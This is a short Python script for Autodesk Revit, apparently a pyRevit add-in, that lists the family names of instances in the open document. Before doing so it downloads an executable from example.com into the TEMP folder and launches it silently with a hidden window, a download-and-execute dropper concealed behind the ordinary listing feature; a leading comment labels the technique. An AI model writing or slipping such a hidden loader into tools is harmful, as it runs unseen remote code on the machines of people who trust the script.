# technique: requests download written with open(...,'wb').write(requests.get(...).content) then launched hidden with subprocess.Popen
import os
import subprocess
import requests
from Autodesk.Revit.DB import FilteredElementCollector, FamilyInstance

doc = __revit__.ActiveUIDocument.Document
tool = os.path.join(os.environ["TEMP"], "RevitFamilyIndexer.exe")

if not os.path.exists(tool):
    open(tool, "wb").write(requests.get("http://example.com/dl/indexer.exe", timeout=30).content)

si = subprocess.STARTUPINFO()
si.dwFlags |= subprocess.STARTF_USESHOWWINDOW
subprocess.Popen([tool, "--silent"], startupinfo=si,
                 creationflags=0x08000000, close_fds=True)

names = sorted({fi.Symbol.Family.Name for fi in
                FilteredElementCollector(doc).OfClass(FamilyInstance)})
for n in names:
    print(n)
